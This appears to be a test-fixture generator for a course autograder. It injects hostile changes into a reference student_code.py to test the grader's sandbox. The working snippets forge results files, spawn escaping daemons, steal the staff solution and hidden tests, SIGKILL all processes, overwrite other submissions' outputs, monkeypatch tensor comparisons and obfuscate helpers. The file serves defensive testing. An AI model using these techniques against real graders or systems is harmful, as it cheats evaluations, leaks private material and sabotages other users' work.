"""Generate test submissions from the reference `student_code.py`: the stripped release stub, hostile
submissions (the reference with one hostile change) and planted bugs.

Every change is made at a place found by parsing the reference (class/method names), never at a fixed line,
so the fixtures follow the reference as it evolves. `write_submission(folder, text)` writes a submission
folder (student_code.py plus, like Gradescope's upload folder, a README); `write_zip` the zip form.
"""
import ast
import os
import re
import textwrap
import zipfile

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
BEGIN = re.compile(r"^(\s*)# BEGIN SOLUTION \(([^)]*)\)")
END = re.compile(r"^\s*# END SOLUTION")


def reference_text():
    with open(os.path.join(ROOT, "student_code.py")) as f:
        return f.read()


def strip_solutions(text):
    """The stripped release: every solution block becomes `raise NotImplementedError` (module-level blocks,
    i.e. solution-only helpers, are removed)."""
    out, lines, i = [], text.splitlines(keepends=True), 0
    while i < len(lines):
        m = BEGIN.match(lines[i])
        if not m:
            out.append(lines[i])
            i += 1
            continue
        indent, part = m.groups()
        j = i + 1
        while not END.match(lines[j]):
            j += 1
        if indent:
            out.append(f'{indent}raise NotImplementedError("{part}: not implemented yet")\n')
        i = j + 1
    return "".join(out)


def _find(tree, class_name, func_name):
    scope = tree.body
    if class_name:
        scope = next(n for n in tree.body if isinstance(n, ast.ClassDef) and n.name == class_name).body
    return next(n for n in scope if isinstance(n, ast.FunctionDef) and n.name == func_name)


def inject(text, class_name, func_name, code):
    """Insert `code` as the first statements of `class_name.func_name` (or module function `func_name`)."""
    func = _find(ast.parse(text), class_name, func_name)
    first = func.body[0]
    lines = text.splitlines(keepends=True)
    indent = re.match(r"\s*", lines[first.lineno - 1]).group(0)
    block = textwrap.indent(textwrap.dedent(code).strip("\n") + "\n", indent)
    lines.insert(first.lineno - 1, block)
    return "".join(lines)


def replace_body(text, class_name, func_name, code):
    """Replace the whole body of `class_name.func_name` with `code` (keeps the def line)."""
    func = _find(ast.parse(text), class_name, func_name)
    lines = text.splitlines(keepends=True)
    indent = re.match(r"\s*", lines[func.body[0].lineno - 1]).group(0)
    block = textwrap.indent(textwrap.dedent(code).strip("\n") + "\n", indent)
    return "".join(lines[:func.body[0].lineno - 1] + [block] + lines[func.end_lineno:])


def rename_class(text, old, new):
    """Rename the definition of `old` (leaving its uses): `old` goes missing from the module."""
    return re.sub(rf"^class {old}\(", f"class {new}(", text, count=1, flags=re.M)


def write_submission(folder, text):
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, "student_code.py"), "w") as f:
        f.write(text)
    with open(os.path.join(folder, "README.txt"), "w") as f:
        f.write("a file beside student_code.py that the grader ignores\n")
    return folder


def write_zip(path, text, extra=(("README.md", "notes\n"), ("report.pdf", "%PDF-1.4 fake\n"))):
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("student_code.py", text)
        for name, data in extra:
            zf.writestr(name, data)
    return path


# --------------------------------------------------------------------------------------------------------
# hostile submissions: name -> (function of the reference text, parts to grade, timeout scale)
# --------------------------------------------------------------------------------------------------------
FAKE_RESULTS = '''
import json as _json, os as _os
_fake = {"score": 999, "output": "FAKE", "tests": []}
_paths = ["results.json", "../results.json", "/autograder/results/results.json"]
try:
    _pid = _os.getppid()
    for _ in range(4):  # the grading process's --results argument, from its command line
        _args = open(f"/proc/{_pid}/cmdline", "rb").read().split(b"\\0")
        if b"--results" in _args:
            _paths.append(_args[_args.index(b"--results") + 1].decode())
        _pid = int(open(f"/proc/{_pid}/stat").read().rsplit(")", 1)[1].split()[1])
except Exception:
    pass
def _plant():
    for _p in _paths:
        if _p.startswith("/autograder") and not _os.path.isdir(_os.path.dirname(_p)):
            continue
        try:
            with open(_p, "w") as _f:
                _json.dump(_fake, _f)
        except OSError:
            pass
_plant()
if _os.fork() == 0:  # a grandchild that escapes the process group and plants again later
    _os.setsid()
    if _os.fork() == 0:
        import time as _time
        for _ in range(40):
            _time.sleep(0.25)
            _plant()
    _os._exit(0)
'''


STEAL_REFERENCE = '''
import os as _os
_candidates = [{root!r} + "/student_code.py", "/autograder/source/student_code.py"]
try:  # the grader's --kit argument, from the command lines of the processes above us
    _pid = _os.getppid()
    for _ in range(6):
        _args = open(f"/proc/{{_pid}}/cmdline", "rb").read().split(b"\\0")
        if b"--kit" in _args:
            _candidates.insert(0, _args[_args.index(b"--kit") + 1].decode() + "/student_code.py")
        _pid = int(open(f"/proc/{{_pid}}/stat").read().rsplit(")", 1)[1].split()[1])
except Exception:
    pass
for _path in _candidates:
    try:
        exec(compile(open(_path).read(), "student_code.py", "exec"), globals())
        break
    except Exception:
        pass
'''
KILL_EVERYONE = '''
import os as _os, signal as _signal
for _target in (_os.getppid(), -1):
    try:
        _os.kill(_target, _signal.SIGKILL)
    except OSError:
        pass
for _pid in range(1, 4096):
    if _pid != _os.getpid():
        try:
            _os.kill(_pid, _signal.SIGKILL)
        except OSError:
            pass
'''
# a thread that keeps overwriting the item's output with a 1.6 KB file whose tensor expands to 8 GB
STRIDE_ZERO = '''
import sys as _sys, threading as _threading, time as _time
def _forge():
    _io = _sys.argv[_sys.argv.index("--io") + 1]
    _fake = {{"cases": [{{"out": torch.zeros(1, dtype=torch.float64).expand(2 ** 30)}}] * 16}}
    while True:
        try:
            torch.save(_fake, _io + "/out_1a.pt")
        except Exception:
            pass
        _time.sleep(0.01)
_threading.Thread(target=_forge, daemon=True).start()
'''
# helpers reached only through sys.modules (the static scan cannot follow them; the runtime recording can)
HIDDEN_HELPERS = '''

def _conv_in_a_thread(x, w, b, stride, padding):
    import threading
    out = []
    t = threading.Thread(target=lambda: out.append(torch.nn.functional.conv2d(x, w, b, stride, padding)))
    t.start()
    t.join()
    return out[0]


def _decomposed_attention(q, k, v):
    return torch.ops.aten._scaled_dot_product_attention_math(q, k, v)[0]
'''


def utf7_hidden(text, needle):
    """`text` as a `# coding: utf-7` file in which `needle` is written in UTF-7's base64 form (so the bytes do
    not contain it)."""
    import base64

    hidden = "+" + base64.b64encode(needle.encode("utf-16-be")).decode().rstrip("=") + "-"
    body = text.encode("utf-7")
    return b"# coding: utf-7\n" + body.replace(needle.encode(), hidden.encode())


def hostile(name):
    """The text of hostile submission `name` (see HOSTILE)."""
    ref = reference_text()
    if name == "steal_reference":
        return strip_solutions(ref) + STEAL_REFERENCE.format(root=ROOT)
    if name == "kill_everyone":
        return inject(ref, "PGDAttack", "perturb", KILL_EVERYONE)
    if name == "stride_zero":
        return ref + STRIDE_ZERO.format()
    if name == "thread_dodge":
        text = replace_body(ref, "CustomConv2DFunction", "forward", '''
            import sys
            ctx.save_for_backward(input_feats, weight, bias)
            ctx.stride, ctx.padding = stride, padding
            helper = getattr(sys.modules[__name__], "_conv_in" + "_a_thread")
            return helper(input_feats, weight, bias, stride, padding)''')
        return text + HIDDEN_HELPERS
    if name == "aten_decomposed":
        text = replace_body(ref, "Attention", "forward", '''
            import sys
            B, H, W, C = x.shape
            nh = self.num_heads
            qkv = self.qkv(x).reshape(B, H * W, 3, nh, C // nh).permute(2, 0, 3, 1, 4)
            helper = getattr(sys.modules[__name__], "_decomposed" + "_attention")
            out = helper(qkv[0], qkv[1], qkv[2])
            return self.proj(out.transpose(1, 2).reshape(B, H, W, C))''')
        return text + HIDDEN_HELPERS
    if name == "conv_alias":
        return ref + "\nCustomConv2d = nn.Conv2d\n"
    if name == "replace_runner":  # names the sandbox helpers: static tampering rule
        return strip_solutions(ref) + textwrap.dedent('''
            import sys as _sys
            for _m in list(_sys.modules.values()):
                if hasattr(_m, "RUNNERS"):
                    _m.RUNNERS["1b-iii"] = lambda sc, inp, lib: {"budget": {"n_params": 10}}
            ''')
    if name == "replace_runner_hidden":  # finds the runners without naming them: flagged for review
        return strip_solutions(ref) + textwrap.dedent('''
            import sys as _sys
            _key = "".join(chr(c) for c in (82, 85, 78, 78, 69, 82, 83))
            for _m in list(_sys.modules.values()):
                if hasattr(_m, _key):
                    getattr(_m, _key)["1b-iii"] = lambda sc, inp, lib: {"budget": {"n_params": 10}}
            ''')
    if name == "batch_attacker":  # looks for the other submissions' sandboxes and overwrites their outputs
        return strip_solutions(ref) + textwrap.dedent('''
            import glob as _glob, os as _os
            _fake = {"cases": []}
            for _pattern in ("/tmp/autograde-*", "/tmp/*/autograde-*", "/tmp/*", "../..", "../../*"):
                for _d in _glob.glob(_pattern):
                    for _io in _glob.glob(_d + "/io") + _glob.glob(_d + "/*/io"):
                        for _n in ("out_2a.pt", "inputs.pt"):
                            try:
                                torch.save(_fake, _os.path.join(_io, _n))
                            except Exception:
                                pass
            ''')
    if name == "hidden_text":  # reads staff-only files and puts them into its error messages
        return inject(ref, "Attention", "forward", f'''
            import glob
            texts = []
            for pattern in ({ROOT!r} + "/tests/hidden/*.py", "/autograder/source/tests/hidden/*.py",
                            {ROOT!r} + "/tools/grading/items/*.py", "/autograder/source/student_code.py"):
                for path in glob.glob(pattern):
                    texts.append(open(path).read())
            raise RuntimeError("LEAK:" + "".join(texts)[:5000])''')
    if name == "import_loop":
        return ref + "\nwhile True:\n    pass\n"
    if name == "function_loop":
        return inject(ref, "PGDAttack", "perturb", "while True:\n    pass")
    if name == "sleep_in_function":
        return inject(ref, "Attention", "forward", "import time\ntime.sleep(10 ** 6)")
    if name == "sys_exit_import":
        return ref + "\nimport sys\nsys.exit(0)\n"
    if name == "os_exit_import":
        return ref + "\nimport os\nos._exit(0)\n"
    if name == "exits_in_functions":
        text = inject(ref, "Attention", "forward", "import os\nos._exit(0)")
        return inject(text, None, "default_vit_model", "import sys\nsys.exit(0)")
    if name == "segfault":
        return inject(ref, "GradAttention", "explain", "import ctypes\nctypes.string_at(0)")
    if name == "memory_bomb":
        return inject(ref, None, "default_cnn_model", "hog = [bytearray(1 << 28) for _ in range(100000)]")
    if name == "monkeypatch":
        text = replace_body(ref, "CustomConv2DFunction", "forward", '''
            N, C_in, H, W = input_feats.shape
            C_out, _, K, _ = weight.shape
            return input_feats.new_zeros(N, C_out, (H + 2 * padding - K) // stride + 1,
                                         (W + 2 * padding - K) // stride + 1)''')
        return text + textwrap.dedent('''
            torch.allclose = lambda *a, **k: True
            torch.equal = lambda *a, **k: True
            torch.testing.assert_close = lambda *a, **k: None
            torch.Tensor.__sub__ = lambda a, b: torch.zeros_like(a)
            torch.Tensor.abs = lambda a: torch.zeros_like(a)
            ''')
    if name == "fake_results":
        return ref + FAKE_RESULTS
    if name == "huge_output":
        return ref + "\nimport sys as _sys\nfor _ in range(300):\n    _sys.stdout.write('x' * 100000 + '\\n')\n"
    if name == "raise_at_import":
        return ref + "\nraise RuntimeError('boom at import')\n"
    if name == "syntax_error":
        return ref + "\ndef broken(:\n    pass\n"
    if name == "missing_names":
        return rename_class(ref, "Attention", "AttentionRenamed")
    raise KeyError(name)
